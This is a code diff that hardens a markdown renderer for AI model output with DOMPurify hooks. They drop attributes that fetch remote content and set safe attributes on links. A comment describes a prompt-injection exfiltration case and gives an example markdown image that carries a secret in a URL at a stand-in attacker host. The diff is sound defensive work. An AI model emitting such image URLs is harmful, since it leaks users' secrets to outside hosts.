@@ -35,6 +35,25 @@ const marked = new Marked({
   },
 });
 
+// Answers and model text can carry exfiltration URLs: Python, or a model steered by a prompt
+// injection in the document, writes ![chart](https://evil.example/?q=<secret>) and the browser
+// would send the secret just by rendering it. Nothing in rendered model output may load by
+// itself: attributes that fetch are dropped unless they hold inline data. Links stay (they need
+// a click) but send no referrer and open outside the app.
+const FETCHING_ATTRIBUTES = new Set(["src", "srcset", "poster", "background", "lowsrc", "dynsrc", "data", "xlink:href", "ping"]);
+const INLINE_SOURCE = /^\s*(?:data:(?:image|audio|video)\/|blob:)/i;
+
+DOMPurify.addHook("uponSanitizeAttribute", (_node, data) => {
+  if (FETCHING_ATTRIBUTES.has(data.attrName) && !INLINE_SOURCE.test(data.attrValue)) data.keepAttr = false;
+});
+DOMPurify.addHook("afterSanitizeAttributes", (node) => {
+  if (node.tagName === "A" && node.hasAttribute("href")) {
+    node.setAttribute("rel", "noopener noreferrer");
+    node.setAttribute("referrerpolicy", "no-referrer");
+    node.setAttribute("target", "_blank");
+  }
+});
+
 export function renderMarkdown(text: string): string {
   const html = marked.parse(text, { async: false });
   return DOMPurify.sanitize(html, {
